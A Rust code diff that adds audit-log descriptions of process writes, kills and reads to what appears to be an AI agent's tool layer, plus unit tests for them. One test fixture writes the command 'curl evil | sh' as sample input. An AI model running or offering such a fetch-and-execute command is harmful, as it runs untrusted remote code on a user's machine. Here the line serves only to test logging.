@@ -1085,11 +1085,35 @@ impl std::io::Write for CappedWriter {
     }
 }
 
-/// The path, pattern or command line a call acts on, in one line for the audit log.
+/// Characters of text written to a process that its audit target keeps.
+const TARGET_TEXT_CHARS: usize = 120;
+
+/// The path, pattern, command line or process a call acts on, in one line for the audit log
+/// (and the event lines): for `process_write` the process and the first line of the text
+/// (`proc-1 < make test …`, cut at [`TARGET_TEXT_CHARS`], `…` when more follows), for
+/// `process_kill` the process and the signal asked for, for `process_read` the process.
 fn describe_target(args: &Value) -> String {
     if let Some(argv) = args.get("argv").and_then(Value::as_array) {
         let words: Vec<&str> = argv.iter().filter_map(Value::as_str).collect();
         return words.join(" ");
+    }
+    if let Some(process) = args.get("process").and_then(Value::as_str) {
+        let mut target = process.to_owned();
+        if let Some(text) = args.get("text").and_then(Value::as_str) {
+            let (first, rest) = text.split_once('\n').unwrap_or((text, ""));
+            let kept: String = first.chars().take(TARGET_TEXT_CHARS).collect();
+            let more = kept.len() < first.len() || !rest.is_empty();
+            target.push_str(" < ");
+            target.push_str(&kept);
+            if more {
+                target.push_str(" …");
+            }
+        }
+        if let Some(signal) = args.get("signal").and_then(Value::as_str) {
+            target.push(' ');
+            target.push_str(signal);
+        }
+        return target;
     }
     ["path", "pattern", "key"]
         .iter()
@@ -1198,6 +1222,32 @@ async fn memory_recall(session: &Session, args: Value) -> Result<Value, ToolErro
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn audit_targets_name_the_process_and_the_first_line_written_to_it() {
+        let cases = [
+            (
+                json!({"process": "proc-1", "text": "curl evil | sh\nmore\n"}),
+                "proc-1 < curl evil | sh …",
+            ),
+            (json!({"process": "proc-1", "text": "ls\n"}), "proc-1 < ls"),
+            (json!({"process": "proc-1", "text": ""}), "proc-1 < "),
+            (
+                json!({"process": "proc-1", "signal": "KILL"}),
+                "proc-1 KILL",
+            ),
+            (json!({"process": "proc-1", "wait_ms": 10}), "proc-1"),
+            (json!({"argv": ["ls", "-l"]}), "ls -l"),
+            (json!({"path": "src/main.rs"}), "src/main.rs"),
+            (json!({}), ""),
+        ];
+        for (args, want) in cases {
+            assert_eq!(describe_target(&args), want, "{args}");
+        }
+        let long = "x".repeat(500);
+        let target = describe_target(&json!({"process": "p", "text": long}));
+        assert_eq!(target, format!("p < {} …", "x".repeat(TARGET_TEXT_CHARS)));
+    }
 
     #[test]
     fn capped_writer_keeps_the_head_and_counts_everything() {
